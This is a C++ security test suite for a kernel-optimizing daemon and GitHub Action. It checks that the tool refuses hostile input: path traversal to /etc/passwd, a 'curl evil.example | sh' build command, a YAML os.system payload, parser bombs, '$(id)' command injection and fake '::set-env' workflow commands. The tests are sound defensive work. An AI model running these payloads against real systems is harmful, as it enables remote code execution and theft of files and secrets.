// Hostile input against the real programs and decoders. tests/threats/README.md lists which test covers which threat.
#include <fmt/format.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <cctype>
#include <filesystem>
#include <nlohmann/json.hpp>
#include <set>
#include <sstream>

#include "base/file.h"
#include "base/subprocess.h"
#include "forge/webhook.h"
#include "service/job_runner.h"
#include "service/pipeline.h"
#include "tests/support/compiled_cache.h"
#include "tests/support/github_stand_in/daemon_kit.h"
#include "tests/support/temp_repository.h"

namespace warpwright {
namespace {

namespace fs = std::filesystem;
using nlohmann::json;

class ThreatsTest : public testing::Test {
 protected:
  void SetUp() override {
    for (const char* part : {"src", "include"})
      fs::copy(fs::path(WW_SOURCE_DIR) / "config/examples/kernels" / part, repository.path() / part,
               fs::copy_options::recursive);
    repository.Write(".warpwright.yml", Manifest("src/transpose.cu"));
    repository.Commit("kernels");
  }
  static std::string Manifest(const std::string& file, const std::string& more = "policy: {max_rounds: 1}\n") {
    return "version: 1\nkernels:\n  - name: transpose\n    file: \"" + file + R"("
    entry: transpose
    args:
      out: {buffer: f32, shape: [cols, rows], role: out}
      inp: {buffer: f32, shape: [rows, cols], role: in}
      rows: {scalar: i32}
      cols: {scalar: i32}
    cases:
      - {name: small, rows: 67, cols: 131}
)" + more;
  }
  base::Completed Warpwright(std::vector<std::string> arguments, std::map<std::string, std::string> environment = {}) {
    base::Command command;
    // Both streams in the order in which a runner's log would have them.
    command.argv = {"/bin/sh", "-c", "exec \"$@\" 2>&1", "sh", std::string(WW_BINARY_DIR) + "/daemon/cli/warpwright"};
    command.argv.insert(command.argv.end(), arguments.begin(), arguments.end());
    for (const std::string& argument :
         {std::string("--repo"), repository.path().string(), std::string("--cache"), CompiledCache().string()})
      command.argv.push_back(argument);
    command.env = base::MinimalEnvironment();
    command.env.merge(environment);
    command.deadline = std::chrono::minutes(5);
    auto done = ::warpwright::base::Run(command);
    EXPECT_TRUE(done);
    return done ? *done : base::Completed{};
  }

  TempRepository repository;
  base::TemporaryDirectory folder = std::move(*base::TemporaryDirectory::Create("ww-threats"));
};

// 1: how the Action's first step decides for each event.
TEST_F(ThreatsTest, ForksAreRefusedBeforeAnythingIsFetched) {
  const struct {
    const char *event, *head, *workflow_head;
    int code;
    const char* output;
  } cases[] = {
      {"push", "", "", 0, "go=true"},
      {"schedule", "", "", 0, "go=true"},
      {"workflow_dispatch", "", "", 0, "go=true"},
      {"pull_request", "acme/kernels", "", 0, "go=true"},
      {"pull_request", "mallory/kernels", "", 0, "go=false\nresult=skipped"},
      {"pull_request", "", "", 0, "go=false\nresult=skipped"},  // the fork was deleted
      {"pull_request_review", "mallory/kernels", "", 0, "go=false\nresult=skipped"},
      {"pull_request_target", "acme/kernels", "", 2, "go=false\nresult=error"},
      {"pull_request_target", "mallory/kernels", "", 2, "go=false\nresult=error"},
      {"workflow_run", "", "mallory/kernels", 2, "go=false\nresult=error"},
      {"workflow_run", "", "acme/kernels", 0, "go=true"},
  };
  int number = 0;
  for (const auto& c : cases) {
    const fs::path output = folder.path() / std::to_string(number++);
    base::Command command;
    command.argv = {"/bin/bash", std::string(WW_SOURCE_DIR) + "/config/action/guard"};
    command.env = base::MinimalEnvironment();
    command.env.merge(std::map<std::string, std::string>{{"WW_EVENT", c.event},
                                                         {"WW_PULL_REQUEST_HEAD", c.head},
                                                         {"WW_WORKFLOW_RUN_HEAD", c.workflow_head},
                                                         {"WW_REPOSITORY", "acme/kernels"},
                                                         {"GITHUB_OUTPUT", output.string()}});
    const auto done = ::warpwright::base::Run(command);
    ASSERT_TRUE(done);
    EXPECT_EQ(done->exit_code, c.code) << c.event << " " << c.head << done->err;
    EXPECT_EQ(base::ReadFile(output).value_or(""), std::string(c.output) + "\n") << c.event << " " << c.head;
  }
}

// 5: everything that runs below the daemon, seen from outside while a job is worked on and published.
TEST(ThreatsDaemon, NoChildHasASecret) {
  DaemonKit kit({.programs = std::string(WW_BINARY_DIR) + "/daemon/cli", .source = WW_SOURCE_DIR});
  const std::string key = *base::ReadFile(kit.folder() / "app-key.pem"),
                    webhook = *base::ReadFile(kit.folder() / "webhook-secret");
  kit.Start();
  kit.ChangeKernel(1);
  kit.CommitAndPush("row_sum");
  std::set<std::string> commands;
  ASSERT_TRUE(kit.Wait([&] {
    for (const auto& process : kit.Descendants()) {
      if (!process.is_itself) continue;
      const std::string all = process.command + "\n" + process.environment;
      for (const std::string& secret : {key, webhook, std::string("ghs_"), std::string("person-token"),
                                        std::string("app-key"), std::string("webhook-secret"), std::string("TOKEN")})
        EXPECT_EQ(all.find(secret), std::string::npos) << all;
      for (const std::string& descriptor : process.descriptors)
        for (const char* place : {"app-key", "webhook-secret", "daemon.sqlite", "daemon.lock", "config.yml", "socket:"})
          EXPECT_EQ(descriptor.find(place), std::string::npos) << process.command << " has " << descriptor;
      for (const char* name : {" plan ", " optimize ", "warpwright-worker"})
        if (process.command.find(name) != std::string::npos) commands.insert(name);
    }
    const json dump = kit.hub().Dump(DaemonKit::kRepository);
    return !dump.at("checks").empty();
  })) << kit.log();
  EXPECT_TRUE(commands.contains(" optimize ") && commands.contains("warpwright-worker"))
      << "nothing was seen, so nothing was tested";
  EXPECT_TRUE(kit.Wait([&] { return std::ranges::all_of(kit.Descendants(), &DaemonKit::Process::is_itself); }))
      << "a child of the daemon never began a program of its own";
  std::string configuration;
  for (const auto& entry : fs::recursive_directory_iterator(kit.state()))
    if (entry.is_regular_file() && entry.path().filename() == "config")
      configuration += base::ReadFile(entry.path()).value_or("");
  EXPECT_NE(configuration, "") << "no mirror";
  for (const char* secret : {"ghs_", "x-access-token", "Authorization"})
    EXPECT_EQ(configuration.find(secret), std::string::npos) << configuration;
}

// 6: a repository whose files are not what their names claim.
TEST_F(ThreatsTest, PathsThatLeaveTheRepositoryAreNotRead) {
  const auto expect_refused = [&](const std::string& file, const std::string& what) {
    repository.Write(".warpwright.yml", Manifest(file));
    repository.Commit(what);
    for (const auto& arguments :
         {std::vector<std::string>{"check"}, {"optimize", "--publish", "none", "--device", "sim:h200"}}) {
      const base::Completed done = Warpwright(arguments);
      EXPECT_NE(done.exit_code, 0) << what << ": " << done.out;
      EXPECT_EQ(done.out.find("root:"), std::string::npos) << what << ": " << done.out;
      EXPECT_NE(done.out, "") << what;
    }
  };
  fs::create_symlink("/etc/passwd", repository.path() / "src/link.cu");
  fs::create_directory_symlink("/etc", repository.path() / "src/etc");
  fs::create_symlink("../../../../../../../../etc/passwd", repository.path() / "src/relative.cu");
  expect_refused("src/link.cu", "a link");
  expect_refused("src/relative.cu", "a relative link");
  expect_refused("src/etc/passwd", "a linked folder");
  expect_refused("../../../../../../etc/passwd", "dots");
  expect_refused("/etc/passwd", "an absolute path");
  expect_refused(".git/config", "git's own files");
  expect_refused("src/../.git/config", "git's own files by dots");
  expect_refused(R"(src/transpose.cu\0.txt)", "a zero");
  // A manifest that is itself a link.
  fs::remove(repository.path() / ".warpwright.yml");
  repository.Write("src/manifest.yml", Manifest("src/transpose.cu"));
  fs::create_symlink("src/manifest.yml", repository.path() / ".warpwright.yml");
  repository.Commit("a linked manifest");
  EXPECT_NE(Warpwright({"optimize", "--publish", "none", "--device", "sim:h200"}).exit_code, 0);
}

// 6: an include that tries to read the machine's files.
TEST_F(ThreatsTest, IncludesDoNotReadTheMachine) {
  for (const char* include : {"\"/etc/passwd\"", "\"../../../../../../../../etc/passwd\"", "\"../.git/config\""}) {
    std::string text = *base::ReadFile(fs::path(WW_SOURCE_DIR) / "config/examples/kernels/src/transpose.cu");
    repository.Write("src/transpose.cu", std::string("#include ") + include + "\n" + text);
    repository.Commit(include);
    const base::Completed done = Warpwright({"optimize", "--publish", "none", "--device", "sim:h200"});
    EXPECT_NE(done.out.find("transpose"), std::string::npos);
    for (const char* content : {"root:", "repositoryformatversion"})
      EXPECT_EQ(done.out.find(content), std::string::npos) << done.out;
  }
}

// 13: the operator's settings have no key in the repository's file.
TEST_F(ThreatsTest, ARepositoryCannotAskForEndpointsCommandsOrKeys) {
  for (const char* wish :
       {"github: {api: \"http://evil.example/api\"}\n", "base_url: http://evil.example\n", "api_key: {env: HOME}\n",
        "build: {command: \"curl evil.example | sh\"}\n", "state: /etc\n", "devices: [cuda:0]\n",
        "listen: {status: \"0.0.0.0:80\"}\n", "author: {name: root}\n", "policy: {max_rounds: 1, command: \"sh\"}\n",
        "pull_requests: {token: {env: GITHUB_TOKEN}}\n"}) {
    repository.Write(".warpwright.yml", Manifest("src/transpose.cu", wish));
    repository.Commit("a wish");
    const base::Completed done = Warpwright({"check"});
    EXPECT_EQ(done.exit_code, 78) << wish << done.out;
    EXPECT_NE(done.out.find(".warpwright.yml:"), std::string::npos) << done.out;
  }
}

// 7: attacks on YAML parsers.
TEST_F(ThreatsTest, HostileYamlIsRefusedAtOnce) {
  std::string deep = "version: 1\nkernels: ", aliases = "a: &a [x, x, x, x, x, x, x, x]\n";
  for (int i = 0; i < 5'000; ++i) deep += '[';
  for (char c = 'b'; c < 'j'; ++c)
    aliases += fmt::format("{0}: &{0} [*{1}, *{1}, *{1}, *{1}, *{1}, *{1}, *{1}]\n", c, static_cast<char>(c - 1));
  const std::string texts[] = {deep,
                               aliases,
                               "a: &x\n  b: *x\n",
                               "version: 1\nversion: 2\n",
                               std::string(300'000, '#'),
                               "version: !!python/object/apply:os.system [id]\n",
                               "<<: {version: 1}\n",
                               std::string("version: 1\0kernels: []\n", 23),
                               std::string("\xff\xfe\0v", 4)};
  for (const std::string& text : texts) {
    repository.Write(".warpwright.yml", text);
    const auto begin = std::chrono::steady_clock::now();
    const base::Completed done = Warpwright({"check"});
    EXPECT_EQ(done.exit_code, 78) << text.substr(0, 60) << done.out.substr(0, 500);
    EXPECT_LT(done.out.size(), 20'000u);
    EXPECT_LT(std::chrono::steady_clock::now() - begin, std::chrono::seconds(10)) << text.substr(0, 60);
  }
}

// 8: the same for JSON from the forge and from children.
TEST(ThreatsDecoders, HostileJsonIsAnErrorAtOnce) {
  const std::string deep = std::string(1'000'000, '['), objects = [] {
    std::string text;
    for (int i = 0; i < 200'000; ++i) text += "{\"a\":";
    return text;
  }();
  const std::string texts[] = {deep,
                               deep + std::string(1'000'000, ']'),
                               objects,
                               "{\"repository\":{\"full_name\":\"\xff\xfe/../x\"}}",
                               "{\"a\":1e999999}",
                               "{\"a\":",
                               "",
                               ("{\"repository\":{\"full_name\":\"../../etc/passwd\"},\"ref\":\"refs/heads/../../"
                                "x\",\"before\":\"x\",\"after\":\"y\"}")};
  for (const std::string& text : texts) {
    for (const char* event : {"push", "issue_comment", "pull_request", "check_run"})
      EXPECT_FALSE(forge::ParseWebhook(event, text)) << event << " " << text.substr(0, 80);
    EXPECT_FALSE(service::ParsePlan(text)) << text.substr(0, 80);
    EXPECT_FALSE(service::ParseOptimization(text, "k")) << text.substr(0, 80);
    EXPECT_FALSE(service::ParseNight(text)) << text.substr(0, 80);
  }
}

// 10: a command is the first line, of known words only.
TEST(ThreatsDecoders, OnlyPlainCommandsAreCommands) {
  for (const char* text : {"please\n/warpwright stop", "> /warpwright stop", "`/warpwright stop`", "//warpwright stop",
                           "/warpwrightstop", "<!-- -->/warpwright stop"}) {
    const auto command = forge::ParseSlashCommand(text);
    EXPECT_TRUE(command && !*command) << text;
  }
  for (const char* text : {"/warpwright optimize $(id)", "/warpwright optimize ../../x", "/warpwright optimize a b c",
                           "/warpwright merge", "/warpwright optimize a;b", "/warpwright ignore --state=/etc"}) {
    const auto command = forge::ParseSlashCommand(text);
    EXPECT_FALSE(command && *command) << text;
  }
}

// 12: a compiler repeats source lines; a runner takes a line that begins with :: for a command.
TEST_F(ThreatsTest, SourceLinesDoNotBecomeWorkflowCommands) {
  const std::string hostile = "::set-env name=PATH::/tmp/evil", mask = "::add-path::/tmp/evil",
                    old = "##[add-path]/tmp/evil";
  std::string text = *base::ReadFile(repository.path() / "src/transpose.cu");
  text.replace(text.find("    out[x * rows"), 0, hostile + "\n" + mask + "\n" + old + "\n");
  repository.Write("src/transpose.cu", text);
  repository.Commit("hostile");
  const base::Completed done =
      Warpwright({"optimize", "--publish", "none", "--device", "sim:h200", "--annotations", "--output",
                  (folder.path() / "output").string(), "--summary", (folder.path() / "summary").string()},
                 {{"GITHUB_ACTIONS", "true"}});
  EXPECT_NE(done.out.find("transpose"), std::string::npos) << done.out;
  std::istringstream lines(done.out);
  std::string stopped;
  for (std::string line; std::getline(lines, line);) {
    line.erase(0, line.find_first_not_of(" \t"));
    if (!stopped.empty()) {
      if (line == "::" + stopped + "::") stopped.clear();
    } else if (line.starts_with("::stop-commands::")) {
      stopped = line.substr(17);
    } else {
      EXPECT_FALSE(line.starts_with("::set-env") || line.starts_with("::add-path") || line.starts_with("##[add-path"))
          << done.out;
    }
  }
  const std::string output = base::ReadFile(folder.path() / "output").value_or("");
  EXPECT_EQ(output.find("\n::set-env"), std::string::npos) << output;
}

// 15: experience from one repository is not available to another.
TEST_F(ThreatsTest, ExperienceStaysWithItsRepository) {
  const auto state = [&](const char* name) { return (folder.path() / name).string(); };
  const base::Completed done = Warpwright(
      {"optimize", "--publish", "none", "--device", "sim:h200", "--max-rounds", "1", "--state", state("a"), "--quiet"});
  ASSERT_EQ(done.exit_code, 0) << done.out;
  const auto count = [&](const char* name) {
    const base::Completed shown = Warpwright({"memory", "show", "--json", "--quiet", "--state", state(name)});
    EXPECT_EQ(shown.exit_code, 0) << shown.out;
    return json::parse(shown.out, nullptr, false);
  };
  const json mine = count("a"), theirs = count("b");
  EXPECT_GT(mine.at("experiences").get<int>(), theirs.at("experiences").get<int>()) << mine.dump() << theirs.dump();
  size_t files = 0;
  for (const auto& entry : fs::recursive_directory_iterator(state("b")))
    if (entry.is_regular_file() && entry.path().extension() == ".jsonl") ++files;
  EXPECT_EQ(files, 0u);
}

TEST(ThreatsDecoders, EveryRepositoryHasItsOwnFolder) {
  const std::pair<const char*, const char*> places[] = {{"acme/kernels", "https://github.com/acme/kernels.git"},
                                                        {"acme/kernels", "https://ghe.example.com/acme/kernels.git"},
                                                        {"acme/Kernels", "https://github.com/acme/Kernels.git"},
                                                        {"acme-kernels", "/srv/acme-kernels"},
                                                        {"/srv/acme/kernels", "/srv/acme/kernels"},
                                                        {"../../etc", "/../../etc"},
                                                        {"acme/..", "https://github.com/acme/.."}};
  std::set<std::string> folders;
  for (const auto& [name, url] : places) {
    std::string folder = service::FolderName(name, url);
    EXPECT_EQ(folder.find('/'), std::string::npos) << folder;
    EXPECT_FALSE(folder.starts_with(".")) << folder;
    std::transform(folder.begin(), folder.end(), folder.begin(),
                   [](unsigned char c) { return std::tolower(c); });  // case-insensitive file systems
    EXPECT_TRUE(folders.insert(folder).second) << folder;
  }
}

// 16: what the Action and the workflows trust.
TEST(ThreatsAction, UsesAreOfOneCommitAndInputsGoThroughTheEnvironment) {
  std::vector<fs::path> files = {fs::path(WW_SOURCE_DIR) / "action.yml"};
  for (const char* folder : {"config/workflows", ".github/workflows"})
    if (fs::exists(fs::path(WW_SOURCE_DIR) / folder))
      for (const auto& entry : fs::directory_iterator(fs::path(WW_SOURCE_DIR) / folder)) files.push_back(entry.path());
  EXPECT_GT(files.size(), 3u);
  for (const fs::path& file : files) {
    std::istringstream lines(*base::ReadFile(file));
    bool permissions = file.filename() == "action.yml";
    size_t run_indent = std::string::npos;
    int number = 0;
    for (std::string line; std::getline(lines, line);) {
      const std::string place = fmt::format("{}:{}: {}", file.string(), ++number, line);
      const size_t indent = line.find_first_not_of(" -");
      if (indent == std::string::npos) continue;
      const std::string text = line.substr(indent);
      permissions |= text.starts_with("permissions:");
      EXPECT_FALSE(text.starts_with("pull_request_target:")) << place;
      if (text.starts_with("uses:")) {
        const std::string what = text.substr(text.find_first_not_of(' ', 5));
        const size_t at = what.find('@');
        const bool ours =
            what.starts_with("./") || what.starts_with("OWNER/") || what.find("warpwright@") != std::string::npos;
        const std::string version = at == std::string::npos ? "" : what.substr(at + 1, 40);
        EXPECT_TRUE(ours ||
                    (version.size() == 40 && version.find_first_not_of("0123456789abcdef") == std::string::npos))
            << place;
      }
      if (run_indent != std::string::npos && indent <= run_indent) run_indent = std::string::npos;
      if (text.starts_with("run:")) run_indent = indent;
      if (run_indent != std::string::npos) {
        EXPECT_EQ(line.find("${{"), std::string::npos) << place;
      }
    }
    EXPECT_TRUE(permissions) << file << " takes the default permissions";
  }
}

// tests/threats/README.md promises tests; each must exist.
TEST(ThreatsTable, NamesTestsThatExist) {
  std::set<std::string> tests;
  for (const auto& entry : fs::recursive_directory_iterator(fs::path(WW_SOURCE_DIR) / "tests")) {
    if (entry.path().extension() != ".cpp") continue;
    const std::string text = *base::ReadFile(entry.path());
    for (size_t at = text.find("\nTEST"); at != std::string::npos; at = text.find("\nTEST", at + 1)) {
      const size_t open = text.find('(', at), comma = text.find(", ", open), close = text.find(')', open);
      if (close == std::string::npos || comma > close) continue;
      tests.insert(text.substr(open + 1, comma - open - 1) + "." + text.substr(comma + 2, close - comma - 2));
    }
  }
  const std::string page = *base::ReadFile(fs::path(WW_SOURCE_DIR) / "tests/threats/README.md");
  int named = 0, rows = 0;
  for (size_t at = page.find('`'); at != std::string::npos; at = page.find('`', at)) {
    const size_t end = page.find('`', at + 1);
    const std::string name = page.substr(at + 1, end - at - 1);
    at = end + 1;
    if (name.find('.') == std::string::npos || name.find_first_of(" /$") != std::string::npos || name.ends_with(".yml"))
      continue;
    ++named;
    EXPECT_TRUE(tests.contains(name)) << name;
  }
  for (int row = 1; row <= 16; ++row) rows += page.find(fmt::format("\n| {} | ", row)) != std::string::npos;
  EXPECT_EQ(rows, 16);
  EXPECT_GT(named, 60);
}

}  // namespace
}  // namespace warpwright
